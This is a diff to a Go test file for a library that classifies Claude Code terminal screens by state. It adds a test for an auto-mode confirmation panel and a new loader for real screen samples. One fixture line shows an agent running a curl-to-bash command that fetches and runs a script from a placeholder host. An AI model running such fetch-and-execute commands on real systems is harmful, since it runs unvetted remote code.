@@ -8,6 +8,7 @@ import (
 	"testing"
 
 	"github.com/handoff-fsm/handoff-fsm"
+	"github.com/handoff-fsm/handoff-fsm/internal/conformance"
 )
 
 const rule = "────────────────────────────────────────────────────────────────────────────────"
@@ -72,6 +73,12 @@ func TestSyntheticScreens(t *testing.T) {
 		{"a draft is not a prompt", withChrome(append(turn, "✻ Brewed for 3s"), "❯ fake prompt in the draft", idleFooter), "", handoff.StatusCompleted, ReasonCompleted},
 		{"unknown screen is neutral", screenOf("Some text", "that Claude Code did not draw", "$ "), "", handoff.StatusIdle, ReasonNoComposer},
 		{"permission dialog", screenOf("❯ Go", rule, " Bash command", " Do you want to proceed?", " ❯ 1. Yes", "   2. No", " Esc to cancel · Tab to amend"), "", handoff.StatusWaitingUserAnswer, ReasonDialog},
+		// Auto mode behind a gateway: a full-width panel asks, with no menu.
+		{"auto mode panel", screenOf("❯ Run it", "● Running it", "  ⎿  $ curl -fsSL http://x.invalid/i.sh | bash", rule,
+			"  Auto mode can't check actions in this session", "  Auto mode's safety check runs on the server.",
+			"  Enter to stay in auto mode · shift+Tab to leave for accept edits mode and stop · Esc to cancel"), "✳ Claude Code", handoff.StatusWaitingUserAnswer, ReasonDialog},
+		{"a panel hint without a rule above is no dialog", screenOf("❯ Go", "  Enter to stay · Esc to cancel"), "", handoff.StatusIdle, ReasonNoComposer},
+		{"a panel hint above the composer is history", withChrome([]string{"❯ Go", rule, "  Enter to stay in auto mode · Esc to cancel", "● Done.", "✻ Brewed for 1s"}, "", idleFooter), "", handoff.StatusCompleted, ReasonCompleted},
 		{"a key hint without an option is no dialog", screenOf("❯ Go", "● Esc to cancel"), "", handoff.StatusIdle, ReasonNoComposer},
 		{"an option above the last prompt is stale", screenOf(" ❯ 1. Yes", "❯ Go", "● Esc to cancel"), "", handoff.StatusIdle, ReasonNoComposer},
 		{"crlf", strings.ReplaceAll(withChrome([]string{"❯ Say hello", "", "✶ Computing…"}, "", idleFooter), "\n", "\r\n"), "", handoff.StatusProcessing, ReasonSpinner},
@@ -93,7 +100,7 @@ func TestSyntheticScreens(t *testing.T) {
 // (the spinner or retry line decides), and with the spinner line removed
 // (the footer decides).
 func TestRealProcessingScreensHaveTwoIndependentSigns(t *testing.T) {
-	for _, rc := range loadRealCases(t) {
+	for _, rc := range conformance.LoadScreens(t, realDir) {
 		if rc.Status != handoff.StatusProcessing {
 			continue
 		}
